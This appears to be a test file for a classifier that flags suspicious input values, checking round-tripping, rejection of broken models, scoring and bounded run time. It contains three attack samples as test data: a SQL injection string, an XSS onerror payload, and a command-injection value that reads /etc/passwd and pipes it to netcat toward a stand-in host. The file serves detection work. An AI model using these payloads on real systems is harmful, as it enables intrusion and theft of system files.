// The committed model: it reads back, knows plain attacks and plain texts, and takes bounded time on any bytes.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { isSuspicious } from './gate.ts'
import { formatModel, logOdds, parseModel } from './model.ts'

const text = readFileSync(new URL('../../../rules/builtin/classifier.model', import.meta.url), 'latin1')
const model = parseModel(text)
assert.ok(model)

test('a model reads back as it was written', () => {
  assert.equal(formatModel(model), text)
})

test('broken models are refused', () => {
  for (const broken of [
    '',
    '{}',
    '{}\nAAAA',
    'x\nAAAA',
    '{"scale":1,"bias":0,"slope":1,"offset":0}\nAAAA',
    'null\nAAAA',
  ]) {
    assert.equal(parseModel(broken), undefined, broken)
  }
})

const sure = Math.log(0.97 / 0.03)

test('attacks have high odds, honest values low ones', () => {
  for (const value of ["1' OR '1'='1' -- -", '<img src=x onerror=alert(1)>', ';cat /etc/passwd|nc evil 1']) {
    assert.ok(isSuspicious(value) && logOdds(model, value) > sure, `${value}: ${logOdds(model, value)}`)
  }
  for (const value of ["O'Reilly & Sons", 'see you (maybe) at 5; bring wine!', '{"a":1,"b":[2,3]}', '<p>Hello</p>']) {
    assert.ok(!isSuspicious(value) || logOdds(model, value) < sure, `${value}: ${logOdds(model, value)}`)
  }
})

test('plain words, numbers and URLs are not looked at', () => {
  for (const value of ['hello world', '12345', '2026-03-01T10:00:00Z', 'https://example.com/a?b=c', "a'b"]) {
    assert.equal(isSuspicious(value), false, value)
  }
})

test('takes bounded time whatever the bytes', () => {
  const value = "'<(x".repeat(16_384)
  logOdds(model, value)
  const start = performance.now()
  for (let i = 0; i < 1000; i++) logOdds(model, value)
  const us = performance.now() - start
  assert.ok(us < 200, `${us.toFixed(1)} µs a value`)
})
